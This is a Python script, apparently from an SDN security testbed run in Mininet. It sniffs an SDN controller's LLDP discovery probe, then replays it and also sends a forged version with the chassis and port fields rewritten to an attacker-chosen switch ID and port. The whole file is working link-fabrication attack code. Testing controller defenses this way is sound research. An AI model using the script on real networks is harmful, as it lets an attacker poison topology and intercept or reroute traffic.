"""Runs inside a Mininet host (the attacker): waits up to WAIT seconds for one of the controller's LLDP probes to
arrive on IFACE, then sends COUNT frames, 0.2 s apart, each twice: the probe replayed unchanged, and the probe with
its chassis and port rewritten to DPID/PORT (every other TLV kept: the controller marker and, if present, the
authentication TLV). Prints one JSON line: {"captured": bool, "chassis": ..., "port": ..., "sent": n}.

usage: forge_lldp.py IFACE WAIT DPID PORT COUNT
"""
import json
import sys
import time

from scapy.all import conf, sendp, sniff

conf.verb = 0
iface, wait, dpid, port, count = sys.argv[1], float(sys.argv[2]), int(sys.argv[3], 0), int(sys.argv[4]), int(sys.argv[5])


def tlvs(payload):
    at = 0
    while at + 2 <= len(payload):
        t, length = payload[at] >> 1, ((payload[at] & 1) << 8) | payload[at + 1]
        yield t, payload[at + 2:at + 2 + length]
        at += 2 + length
        if t == 0:
            return


def tlv(t, value):
    return bytes([(t << 1) | (len(value) >> 8), len(value) & 0xff]) + value


captured = sniff(iface=iface, count=1, timeout=wait, lfilter=lambda p: bytes(p)[12:14] == b"\x88\xcc")
if not captured:
    print(json.dumps({"captured": False, "sent": 0}))
    sys.exit(0)
frame = bytes(captured[0])
header, body = frame[:14], frame[14:]
fields = list(tlvs(body))
chassis = next(v for t, v in fields if t == 1)
port_id = next(v for t, v in fields if t == 2)
forged = header
for t, v in fields:
    if t == 1:
        v = bytes([7]) + f"dpid:{dpid:016x}".encode()
    elif t == 2:
        v = bytes([7]) + str(port).encode()
    forged += tlv(t, v)
forged = forged.ljust(60, b"\0")
for _ in range(count):
    sendp(frame, iface=iface)
    sendp(forged, iface=iface)
    time.sleep(0.2)
print(json.dumps({"captured": True, "chassis": chassis[1:].decode(errors="replace"),
                  "port": port_id[1:].decode(errors="replace"), "sent": 2 * count}))
